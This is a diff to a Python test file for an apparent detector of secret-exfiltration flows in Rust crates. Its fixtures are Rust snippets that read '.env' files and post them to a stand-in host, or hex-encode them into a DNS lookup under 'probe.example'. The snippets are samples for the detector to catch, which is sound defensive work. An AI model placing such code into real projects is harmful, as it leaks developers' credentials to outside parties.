@@ -312,6 +312,47 @@ def test_a_call_reaches_a_type_s_function_only_by_that_type_s_path() -> None:
     assert [(f.action, f.sink) for f in flows(named)] == [("download-run", "Command::new")]
 
 
+def test_a_project_s_env_file_counts_where_the_crate_chose_the_address() -> None:
+    # sent to an address written in the crate, or its own service: collection
+    fixed = (
+        "fn f(dir: &Path) {\n"
+        '  let env = std::fs::read_to_string(dir.join(".env.production")).unwrap();\n'
+        '  ureq::post("https://collect.example.net/u").send_string(&env);\n}\n'
+    )
+    assert [tuple(sorted(f.sources)) for f in flows(fixed)] == [("project-secrets",)]
+    own = fixed.replace("collect.example.net", "api.timesync.example")
+    assert [f.fixed for f in flows(own, crate="timesync")] == [False]
+    assert [tuple(sorted(f.sources)) for f in flows(own, crate="timesync")] == [
+        ("project-secrets",)
+    ]
+    # to the server a variable names, or filling requests the project's files wrote: a
+    # secrets manager's sync, a request runner
+    named = fixed.replace('"https://collect.example.net/u"', '&std::env::var("VAULT_ADDR")?')
+    assert flows(named) == []
+    runner = (
+        "fn run(dir: &Path) {\n"
+        '  let env = std::fs::read_to_string(dir.join(".env")).unwrap();\n'
+        '  let req = std::fs::read_to_string(dir.join("users.req")).unwrap();\n'
+        '  let url = req.replace("{{k}}", &env);\n'
+        "  ureq::get(&url).set(\"Authorization\", &env).call().unwrap();\n}\n"
+    )
+    assert flows(runner) == []
+
+
+def test_a_name_looked_up_under_a_domain_the_crate_writes_out_sends_what_it_holds() -> None:
+    source = (
+        "fn f() {\n"
+        '  let env = std::fs::read(".env").unwrap();\n'
+        '  let hex: String = env.iter().map(|b| format!("{b:02x}")).collect();\n'
+        '  let name = format!("{hex}.probe.example:443");\n'
+        "  let _ = name.to_socket_addrs();\n}\n"
+    )
+    assert [(f.sink, f.fixed) for f in flows(source)] == [("DNS lookup", True)]
+    assert flows(source.replace(".probe.example", ".localhost")) == []
+    looked_up = source.replace("name.to_socket_addrs()", "tokio::net::lookup_host(&name)")
+    assert [f.sink for f in flows(looked_up)] == ["DNS lookup"]
+
+
 def test_a_database_connection_to_a_hidden_address_reaches_it() -> None:
     source = (
         "const U: [u8; 4] = [1, 2, 3, 4];\n"
